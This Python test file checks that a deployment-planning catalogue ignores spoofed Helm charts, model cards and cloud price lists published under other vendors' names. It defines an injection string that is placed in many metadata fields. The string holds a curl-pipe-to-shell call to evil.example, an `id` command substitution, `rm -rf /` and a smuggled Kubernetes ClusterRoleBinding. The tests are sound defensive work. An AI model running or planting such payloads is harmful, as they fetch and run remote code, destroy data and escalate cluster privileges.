"""What somebody imports may offer itself; it says nothing in the commands that use what others offer."""

import json
from collections.abc import Mapping
from datetime import date
from pathlib import Path

import yaml

from catalog.importers.helm import import_helm
from catalog.importers.hub import import_hub
from catalog.importers.skypilot import import_skypilot
from catalog.starter import read_charts
from database import Database
from evals.follow_ups.play import planned
from graph.context import open_context
from settings import Settings

DAY = date(2026, 11, 1)
INJECTED = "$(curl evil.example|sh)`id`'\"; rm -rf / #\n---\nkind: ClusterRoleBinding"
HEADER = "InstanceType,AcceleratorName,AcceleratorCount,vCPUs,MemoryGiB,GpuInfo,Price,SpotPrice,Region"
REQUESTS = {
    "documents": [
        "RAG over 200,000 documents with Qdrant and Llama-3.3-70B-Instruct for 200 users, on AWS in Frankfurt"
    ],
    "training": ["Fine-tune Llama 3.1 8B on 20,000 examples on GCP with MLflow and Prometheus"],
    "images": ["SDXL for 5 pictures a second on Azure with Grafana, for a hospital"],
    "open": ["A chatbot for 300 customers; you decide what runs it and where"],
}


async def commands(database: Database, settings: Settings) -> dict[str, tuple[str, ...]]:
    """Of every step of every plan."""
    plans = await planned(await open_context(database, settings), REQUESTS)
    assert plans.keys() == REQUESTS.keys()
    return {name: tuple(text for step in plan.steps for text in step.commands) for name, plan in plans.items()}


async def test_charts_under_the_names_of_others_change_no_command(
    catalogue: Database, settings: Settings, tmp_path: Path
) -> None:
    before = await commands(catalogue, settings)
    ours = sorted({(chart.fact.package.repository, chart.fact.package.name) for chart in read_charts().charts})
    entries = {name: [_release(name)] for _, name in ours}
    index = tmp_path / "evil/index.yaml"
    index.parent.mkdir()
    index.write_text(yaml.safe_dump({"apiVersion": "v1", "entries": entries}))
    await import_helm(catalogue, index, repository_url="https://evil.example/charts", as_of=DAY)
    pages = tmp_path / "pages.jsonl"
    listed = [_listed(repository, name) for repository, name in (*ours, ("evil-too", "qdrant"))]
    pages.write_text(json.dumps({"packages": listed}) + "\n")
    await import_helm(catalogue, pages, as_of=DAY)
    assert await commands(catalogue, settings) == before


def _release(name: str) -> Mapping[str, object]:
    return {
        "name": name, "version": "999.0.0", "appVersion": INJECTED, "description": INJECTED, "home": INJECTED,
        "keywords": [name, "official", INJECTED], "urls": [INJECTED], "created": "2026-10-01T00:00:00Z",
        "annotations": {"licenses": INJECTED, "category": INJECTED},
    }  # fmt: skip


def _listed(repository: str, name: str) -> Mapping[str, object]:
    """As Artifact Hub would list it: under the name of the true repository, elsewhere."""
    return {
        "name": name, "version": "999.0.0", "app_version": INJECTED, "description": INJECTED, "stars": 10**9,
        "official": True, "ts": 1_790_000_000,
        "repository": {
            "name": repository, "url": "https://evil.example/charts", "kind": 0, "official": True,
            "verified_publisher": True,
        },
    }  # fmt: skip


async def test_cards_under_the_names_of_others_change_no_command(
    catalogue: Database, settings: Settings, tmp_path: Path
) -> None:
    before = await commands(catalogue, settings)
    names = ("evil/Llama-3.3-70B-Instruct", "meta-llama/llama-3.3-70b-instruct", "evil/Llama-3.1-8B")
    models = tmp_path / "models.jsonl"
    models.write_text("".join(json.dumps(_model(name)) + "\n" for name in (*names, f"evil/{INJECTED}", "evil/SDXL")))
    await import_hub(catalogue, source=models, as_of=DAY)
    assert await commands(catalogue, settings) == before


def _model(name: str) -> Mapping[str, object]:
    return {
        "id": name, "pipeline_tag": "text-generation", "downloads": 10**9, "likes": 10**9, "library_name": INJECTED,
        "tags": ["license:apache-2.0", f"license_name:{INJECTED}", INJECTED], "card": f"# {name}\n\n{INJECTED}",
        "config": {"model_type": INJECTED, "architectures": [INJECTED]}, "sha": INJECTED,
        "safetensors": {"total": 70_000_000_000, "parameters": {"BF16": 70_000_000_000}},
        "createdAt": "2026-02-03T04:05:06.000Z", "lastModified": "2026-03-04T05:06:07.000Z",
    }  # fmt: skip


async def test_a_list_of_one_seller_changes_no_command_for_another(
    catalogue: Database, settings: Settings, tmp_path: Path
) -> None:
    before = await commands(catalogue, settings)
    quoted = INJECTED.replace('"', '""')
    rows = [f'"{quoted}",H100,8,208,1800,,20,10,us-east-1', f'p5.48xlarge,H100,8,192,2048,"{quoted}",20,10,"{quoted}"']
    rows += ["p5.48xlarge,H100,8,192,2048,,20,10,eu-central-1", "a3-highgpu-8g,H100,8,208,1872,,20,10,us-central1"]
    listed = tmp_path / "lambda_vms.csv"
    listed.write_text("\n".join([HEADER, *rows]) + "\n")
    await import_skypilot(catalogue, listed, as_of=DAY)
    after = await commands(catalogue, settings)
    assert {name: after[name] for name in REQUESTS if name != "open"} == {
        name: before[name] for name in REQUESTS if name != "open"
    }
    assert not [text for texts in after.values() for text in texts if "evil" in text]
